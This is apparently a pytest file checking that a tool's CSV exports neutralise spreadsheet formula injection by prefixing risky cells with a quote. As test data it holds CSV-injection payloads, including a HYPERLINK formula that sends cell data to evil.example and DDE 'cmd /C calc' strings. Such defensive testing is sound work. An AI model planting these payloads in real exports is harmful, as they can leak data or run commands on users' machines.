"""Every CSV Tandem writes is safe to open in Excel or Sheets (OWASP's CSV-injection rule):
a text cell that begins with =, +, -, @, tab, carriage return or line feed gets a leading
single quote, so the spreadsheet shows it as text instead of running it as a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest

from bot.reports import overrides, scores
from bot.reports.spreadsheet_csv import neutralise, write_csv
from scoring.types import Band, HealthResult
from storage.models import OverrideRecord

ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_cell_that_starts_like_a_formula_gets_a_leading_quote(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["Acme Corp", "ACC-1", "a=b", "note: -5% usage", "'already quoted", "", " =1+2", "|pipe", "＝1+2"],
)
def test_ordinary_text_is_written_as_it_is(value: str) -> None:
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [-12, -0.5, 3, 0.25, None])
def test_numbers_tandem_computed_stay_numbers(value: object) -> None:
    assert neutralise(value) == value


def test_separators_and_quotes_inside_a_cell_cannot_start_a_new_cell() -> None:
    text = write_csv([{"a": '=1+2";=1+2', "b": "=1+2'\" ;,=1+2"}], ("a", "b"))
    assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ["'=1+2\";=1+2", "'=1+2'\" ;,=1+2"]]


def _record(**values: object) -> OverrideRecord:
    base: dict[str, object] = dict(
        id=1, at=datetime(2026, 3, 2, 9, tzinfo=UTC), action="vetoed", account_id="ACC-1", card_id=None,
        outbox_id=None, trigger="", proposed_route="", proposed_draft="", edited_text=None,
        reason="", actor_slack_id="U0CSM001", seconds_to_decide=0.0, config_version=None,
    )  # fmt: skip
    base.update(values)
    return OverrideRecord(**base)


def test_overrides_csv_neutralises_account_ids_and_veto_notes() -> None:
    records = [_record(account_id="=cmd|' /C calc'!A0", reason='@SUM(1+1)*cmd|"/C calc"!A0')]
    rows = list(csv.DictReader(io.StringIO(overrides.render(overrides.override_rows(records), "csv"))))
    assert rows[0]["account_id"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["reason"] == '\'@SUM(1+1)*cmd|"/C calc"!A0'
    assert rows[0]["actor"] == "U0CSM001" and rows[0]["seconds_to_decide"] == "0.0"


def test_overrides_json_keeps_the_text_exact() -> None:
    records = [_record(reason="=1+2")]
    assert '"reason": "=1+2"' in overrides.render(overrides.override_rows(records), "json")


def test_score_csv_neutralises_names_and_keeps_negative_changes_as_numbers() -> None:
    result = HealthResult(
        account_id="-ACC-9", as_of=date(2026, 3, 2), score=41, band=Band.RED, confidence=0.8, factors=(),
        explanation="=HYPERLINK(\"x\")", trend=((7, -12), (30, -20)),
    )  # fmt: skip
    text = scores.render(scores.score_rows({"-ACC-9": ("@Evil Co", "smb")}, [result]), "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["account_id"] == "'-ACC-9" and rows[0]["name"] == "'@Evil Co"
    assert rows[0]["explanation"] == '\'=HYPERLINK("x")'
    assert rows[0]["change_7d"] == "-12" and rows[0]["change_30d"] == "-20"
